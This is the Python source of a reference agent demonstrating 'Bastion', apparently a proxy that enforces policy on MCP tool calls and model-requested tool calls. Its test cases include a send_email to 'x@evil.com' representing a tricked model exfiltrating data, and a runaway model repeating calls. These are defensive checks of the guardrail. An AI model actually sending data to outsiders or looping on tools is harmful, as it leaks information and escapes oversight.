"""A tool-using reference agent: MCP tools through Bastion, and tool calls the model emits.

    python -m bastion.agents.tool_agent --proxy-url http://127.0.0.1:8080 --api-key KEY

It lists the demo tool server's tools through Bastion (tools the policy forbids are not listed),
calls some directly over MCP, and then lets the scripted model ask for tool calls, executing only
those Bastion passes on. With the bundled policy it sees every outcome:

- allowed: ``get_weather``, a 50 USD ``send_money`` to a known payee;
- denied: ``send_email`` outside the company (the MCP server never sees it), ``delete_user``
  (not even listed);
- review: a 500 USD ``send_money``, held for a human's approval;
- a model tricked into asking for ``send_email`` to an outsider: Bastion removes the tool call
  and the agent never executes it;
- a runaway model asking for the same ``get_weather`` call again and again: Bastion's limits
  (``max_repeats`` in bastion.yaml) stop the loop.

The exit status is 0 when every outcome was the expected one, 1 otherwise.
"""

from __future__ import annotations

import argparse
import asyncio
import json
import sys
from collections.abc import Sequence
from typing import Any, TextIO

import httpx2
import openai
from mcp import Client
from mcp.client.streamable_http import streamable_http_client
from mcp.shared.exceptions import MCPError
from mcp_types import TextContent
from openai.types.chat import ChatCompletionMessageParam, ChatCompletionToolParam

from bastion.settings import Secret, add_option

MODEL = "scripted-small"
# The scripted model answers this with the same tool call after every result (a runaway model).
LOOP_PROMPT = 'Keep calling get_weather {"city": "Rome"}'
MAX_LOOP = 10
# (tool, arguments, expected outcome)
MCP_CALLS: list[tuple[str, dict[str, Any], str]] = [
    ("get_weather", {"city": "Paris"}, "allowed"),
    ("send_money", {"amount": 50, "recipient": "alice@example.com"}, "allowed"),
    ("send_email", {"to": "x@evil.com", "subject": "Quarterly numbers", "body": "attached"}, "denied"),
    ("send_money", {"amount": 500, "recipient": "alice@example.com"}, "held"),
]


class Agent:
    def __init__(self, proxy_url: str, key: Secret, out: TextIO) -> None:
        self.proxy_url = proxy_url.rstrip("/")
        self.key = key
        self.out = out
        self.failures = 0

    def say(self, line: str, ok: bool = True) -> None:
        if not ok:
            self.failures += 1
        print(("" if ok else "UNEXPECTED: ") + line, file=self.out, flush=True)

    async def run(self) -> int:
        headers = {"authorization": f"Bearer {self.key.get()}"}
        async with (
            httpx2.AsyncClient(headers=headers, timeout=30) as http,
            Client(streamable_http_client(f"{self.proxy_url}/mcp/tools", http_client=http)) as mcp,
        ):
            tools = (await mcp.list_tools()).tools
            names = [t.name for t in tools]
            self.say(f"MCP tools listed through Bastion: {', '.join(names)}", "delete_user" not in names)
            for name, arguments, expected in MCP_CALLS:
                await self.call_tool(mcp, name, arguments, expected)
            specs: list[ChatCompletionToolParam] = [
                {
                    "type": "function",
                    "function": {
                        "name": t.name,
                        "description": t.description or "",
                        "parameters": dict(t.input_schema),
                    },
                }
                for t in tools
            ]
            await self.model_round(
                mcp, specs, 'call send_email {"to": "x@evil.com", "subject": "hi", "body": "x"}', expect_tool=None
            )
            await self.model_round(mcp, specs, 'call get_weather {"city": "Oslo"}', expect_tool="get_weather")
            await self.runaway(mcp, specs)
        return 0 if self.failures == 0 else 1

    async def call_tool(self, mcp: Client, name: str, arguments: dict[str, Any], expected: str) -> str:
        try:
            result = await mcp.call_tool(name, arguments)
        except MCPError as e:
            outcome = "held" if "approval" in e.error.message.lower() else "denied"
            self.say(f"MCP {name}({json.dumps(arguments)}): {outcome}: {e.error.message}", outcome == expected)
            return outcome
        text = "".join(b.text for b in result.content if isinstance(b, TextContent))
        refusal = (result.meta or {}).get("bastion/refusal")
        if result.is_error and isinstance(refusal, dict):  # Bastion refused it: a tool result the model reads
            outcome = "held" if refusal.get("code") == "approval_required" else "denied"
            self.say(f"MCP {name}({json.dumps(arguments)}): {outcome}: {text}", outcome == expected)
            return outcome
        self.say(f"MCP {name}({json.dumps(arguments)}): {text}", expected == "allowed" and not result.is_error)
        return text

    async def model_round(
        self, mcp: Client, specs: list[ChatCompletionToolParam], prompt: str, expect_tool: str | None
    ) -> None:
        async with openai.AsyncOpenAI(
            base_url=f"{self.proxy_url}/openai/v1", api_key=self.key.get(), max_retries=0
        ) as client:
            await self.converse(client, mcp, specs, prompt, expect_tool)

    async def converse(
        self,
        client: openai.AsyncOpenAI,
        mcp: Client,
        specs: list[ChatCompletionToolParam],
        prompt: str,
        expect_tool: str | None,
    ) -> None:
        messages: list[ChatCompletionMessageParam] = [{"role": "user", "content": prompt}]
        reply = await client.chat.completions.create(model=MODEL, messages=messages, tools=specs)
        message = reply.choices[0].message
        calls = [c for c in message.tool_calls or [] if c.type == "function"]
        if expect_tool is None:
            self.say(f"model asked for a forbidden tool; Bastion answered instead: {message.content!r}", not calls)
            return
        if [c.function.name for c in calls] != [expect_tool]:
            self.say(f"model tool calls: {[c.function.name for c in calls]}, expected {expect_tool}", False)
            return
        call = calls[0]
        result = await self.call_tool(mcp, call.function.name, json.loads(call.function.arguments), "allowed")
        messages += [
            {
                "role": "assistant",
                "tool_calls": [
                    {
                        "id": call.id,
                        "type": "function",
                        "function": {"name": call.function.name, "arguments": call.function.arguments},
                    }
                ],
            },
            {"role": "tool", "tool_call_id": call.id, "content": result},
        ]
        final = await client.chat.completions.create(model=MODEL, messages=messages, tools=specs)
        self.say(f"model's answer after {expect_tool}: {final.choices[0].message.content!r}")

    async def runaway(self, mcp: Client, specs: list[ChatCompletionToolParam]) -> None:
        """Run every tool call a looping model asks for, until Bastion stops the loop."""
        messages: list[ChatCompletionMessageParam] = [{"role": "user", "content": LOOP_PROMPT}]
        async with openai.AsyncOpenAI(
            base_url=f"{self.proxy_url}/openai/v1", api_key=self.key.get(), max_retries=0
        ) as client:
            for step in range(1, MAX_LOOP + 1):
                try:
                    reply = await client.chat.completions.create(model=MODEL, messages=messages, tools=specs)
                except openai.APIStatusError as e:
                    self.say(f"runaway model stopped by Bastion at model call {step}: {e.code}")
                    return
                calls = [c for c in reply.choices[0].message.tool_calls or [] if c.type == "function"]
                if not calls:
                    self.say("the looping model stopped asking for tools", False)
                    return
                call = calls[0]
                result = await mcp.call_tool(call.function.name, json.loads(call.function.arguments))
                refusal = (result.meta or {}).get("bastion/refusal")
                if result.is_error and isinstance(refusal, dict):
                    self.say(
                        f"runaway model asked for {call.function.name}({call.function.arguments}) again and again: "
                        f"Bastion stopped call {step} ({refusal.get('rule')})"
                    )
                    return
                text = "".join(b.text for b in result.content if isinstance(b, TextContent))
                messages += [
                    {
                        "role": "assistant",
                        "tool_calls": [
                            {
                                "id": call.id,
                                "type": "function",
                                "function": {"name": call.function.name, "arguments": call.function.arguments},
                            }
                        ],
                    },
                    {"role": "tool", "tool_call_id": call.id, "content": text},
                ]
        self.say(f"a runaway loop of {MAX_LOOP} calls was never stopped", False)


def main(argv: Sequence[str] | None = None) -> int:
    parser = argparse.ArgumentParser(prog="tool_agent", description=__doc__.split("\n\n")[0])
    add_option(
        parser,
        "--proxy-url",
        env="BASTION_AGENT_PROXY_URL",
        default="http://127.0.0.1:8080",
        help="Bastion's reverse-proxy URL",
    )
    add_option(parser, "--api-key", env="BASTION_AGENT_KEY", default="", help="the agent's Bastion key")
    args = parser.parse_args(argv)
    if not args.api_key:
        parser.error("an agent key is needed: --api-key or BASTION_AGENT_KEY")
    agent = Agent(args.proxy_url, Secret(args.api_key), sys.stdout)
    status = asyncio.run(agent.run())
    print("all tool outcomes as expected" if status == 0 else f"{agent.failures} unexpected outcomes", flush=True)
    return status


if __name__ == "__main__":
    sys.exit(main())
